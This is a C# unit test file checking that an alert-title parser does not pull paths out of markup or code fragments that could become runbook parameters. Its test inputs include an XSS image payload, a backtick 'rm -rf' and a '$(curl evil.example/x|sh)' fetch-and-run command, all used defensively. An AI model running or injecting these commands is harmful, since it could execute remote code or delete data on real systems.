using AeonNova.Analysis.Planning;
using AeonNova.Core.Alerts;

namespace AeonNova.Analysis.Tests.Planning;

/// <summary>Issue #16: markup and code fragments in alert titles must never become runbook parameters.</summary>
public class MarkupExtractionTests
{
    [Theory]
    [InlineData("Disk full</script>")]
    [InlineData("Disk full <img src=/x onerror=alert(1)>")]
    [InlineData("Disk full `rm -rf /tmp`")]
    [InlineData("Disk full $(curl evil.example/x|sh)")]
    public void Resolve_WhenTitlePathSitsInsideMarkupOrCode_ShouldFindNothing(string title)
    {
        var source = AlertFieldSource.Parse("title ~ (?<value>/[A-Za-z0-9._/-]*)");

        Assert.Null(source.Resolve(Alert(title)));
    }

    [Fact]
    public void Resolve_WhenTitleNamesAPathInProse_ShouldStillFindIt()
    {
        var source = AlertFieldSource.Parse("title ~ (?<value>/[A-Za-z0-9._/-]*)");

        Assert.Equal("/var/log", source.Resolve(Alert("Disk <b>full</b> on /var/log")));
    }

    private static CanonicalAlert Alert(string title) => new()
    {
        Id = "a1",
        Source = "alertmanager",
        Fingerprint = new string('0', 64),
        Status = AlertStatus.Firing,
        Severity = AlertSeverity.High,
        Title = title,
        ReceivedAt = DateTimeOffset.UnixEpoch,
    };
}
